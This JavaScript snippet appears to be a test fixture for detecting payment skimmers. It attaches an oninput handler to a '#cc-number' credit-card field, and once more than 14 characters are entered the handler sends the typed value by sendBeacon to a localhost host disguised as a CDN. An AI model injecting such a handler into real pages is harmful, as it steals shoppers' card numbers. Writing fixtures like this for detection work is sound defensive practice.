/* tw:skim-attribute */
document.querySelector('#cc-number').setAttribute(
  'oninput',
  '/* tw' + ':skim-attribute-handler */ if (this.value.length > 14) navigator.sendBeacon("http://cdn-fields.localhost:{{port}}/f", this.value)',
)
